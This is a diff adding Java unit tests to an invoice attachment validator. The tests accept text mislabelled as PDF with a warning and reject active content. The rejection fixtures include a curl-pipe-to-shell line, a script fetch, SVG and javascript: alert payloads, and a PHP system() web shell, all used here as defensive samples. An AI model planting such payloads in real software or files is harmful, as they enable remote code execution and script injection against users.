@@ -6,6 +6,7 @@ import static org.achemine.testing.AttachmentSamples.reference;
 import static org.achemine.testing.AttachmentSamples.ubl;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Clock;
@@ -145,6 +146,73 @@ class AttachmentValidationTest {
     }
 
     @Test
+    void plainTextDeclaredAsPdfIsAWarningAndTheInvoiceIsAccepted() throws Exception {
+        FlowVerdict verdict = validate("texte.xml", ubl("PJ-TXT-1",
+                reference("application/pdf", "test.pdf", "Testing Base64 encoding".getBytes(StandardCharsets.UTF_8))));
+
+        assertThat(codes(verdict)).isEmpty();
+        assertThat(warnings(verdict)).containsExactly("ADM_PJ_CONTENU_TEXTE");
+        assertThat(message(verdict, "ADM_PJ_CONTENU_TEXTE")).contains("n°1 « test.pdf »")
+                .contains("déclarée « application/pdf »").contains("du texte, pas un PDF")
+                .contains("joignez le vrai document").contains("« text/csv »");
+        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
+    }
+
+    @Test
+    void plainTextUnderAnImageOrAnOfficeTypeIsAWarningToo() throws Exception {
+        byte[] text = "Relevé des heures : 12 h\nSigné : M. Durand\n".getBytes(StandardCharsets.UTF_8);
+        for (String[] declared : List.of(new String[] {"image/png", "releve.png"},
+                new String[] {"application/vnd.oasis.opendocument.spreadsheet", "releve.ods"})) {
+            FlowVerdict verdict = validate("texte.xml", ubl("PJ-TXT-2", reference(declared[0], declared[1], text)));
+            assertThat(codes(verdict)).as(declared[0]).isEmpty();
+            assertThat(warnings(verdict)).as(declared[0]).containsExactly("ADM_PJ_CONTENU_TEXTE");
+        }
+    }
+
+    @Test
+    void scriptOrMarkupTextDeclaredAsPdfIsStillRefused() throws Exception {
+        for (String[] active : List.of(
+                new String[] {"bl.pdf", "#!/bin/sh\ncurl http://x | sh\n"},
+                new String[] {"bl.pdf", "  <!DOCTYPE html><p>Facture</p>"},
+                new String[] {"bl.pdf", "Bon de livraison\n<SCRIPT>fetch('//x')</SCRIPT>"},
+                new String[] {"bl.pdf", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
+                new String[] {"bl.pdf", "<a href=\"javascript:alert(1)\">BL</a>"},
+                new String[] {"bl.pdf", "<?php system($_GET['c']); ?>"},
+                new String[] {"lancer.bat", "echo bon de livraison"},
+                new String[] {"bl.html", "bon de livraison"})) {
+            FlowVerdict verdict = validate("actif.xml", ubl("PJ-ACT-1",
+                    reference("application/pdf", active[0], active[1].getBytes(StandardCharsets.UTF_8))));
+            assertThat(codes(verdict)).as(active[1]).containsExactly("IRR_PJ_CONTENU");
+            assertThat(warnings(verdict)).as(active[1]).isEmpty();
+            assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_REJETE);
+        }
+        FlowVerdict html = validate("html.xml", ubl("PJ-ACT-2",
+                reference("application/pdf", "bl.pdf", "<html><body>BL</body></html>".getBytes(StandardCharsets.UTF_8))));
+        assertThat(message(html, "IRR_PJ_CONTENU")).contains("du texte actif").contains("« <html »");
+    }
+
+    @Test
+    void binaryThatIsNeitherTheTypeNorTextIsStillRefused() throws Exception {
+        FlowVerdict verdict = validate("binaire.xml", ubl("PJ-BIN-1",
+                reference("application/pdf", "bl.pdf", new byte[] {0, 1, 2, 3, (byte) 0xFE, 0x10})));
+
+        assertThat(codes(verdict)).containsExactly("IRR_PJ_CONTENU");
+        assertThat(message(verdict, "IRR_PJ_CONTENU")).contains("un contenu binaire d'un autre type");
+    }
+
+    @Test
+    void aFacturXCarryingTextAsAPdfBesideItsInvoiceIsAcceptedWithTheWarning() throws Exception {
+        byte[] pdf = FacturXPdfs.of("FX-PJ-0003").attaching("note.pdf", "application/pdf",
+                "Livraison conforme".getBytes(StandardCharsets.UTF_8)).bytes();
+
+        FlowVerdict verdict = validate("facture-note.pdf", pdf);
+
+        assertThat(codes(verdict)).isEmpty();
+        assertThat(message(verdict, "ADM_PJ_CONTENU_TEXTE")).contains("« note.pdf »").contains("PDF (fichier incorporé)");
+        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
+    }
+
+    @Test
     void aDeclaredImageThatIsAPdfIsRefusedOnItsContent() throws Exception {
         FlowVerdict verdict = validate("png.xml", ubl("PJ-PNG-1", reference("image/png", "photo.png", PDF)));
 
@@ -194,6 +262,10 @@ class AttachmentValidationTest {
     private static List<String> codes(FlowVerdict verdict) {
         return findings(verdict).filter(Finding::isFatal).map(Finding::code)
                 .filter(c -> c.startsWith("IRR_") || c.startsWith("NAT_") || c.startsWith("FX_")).toList();
+    }
+
+    private static List<String> warnings(FlowVerdict verdict) {
+        return findings(verdict).filter(f -> !f.isFatal()).map(Finding::code).filter(c -> c.contains("_PJ")).toList();
     }
 
     private static String message(FlowVerdict verdict, String code) {
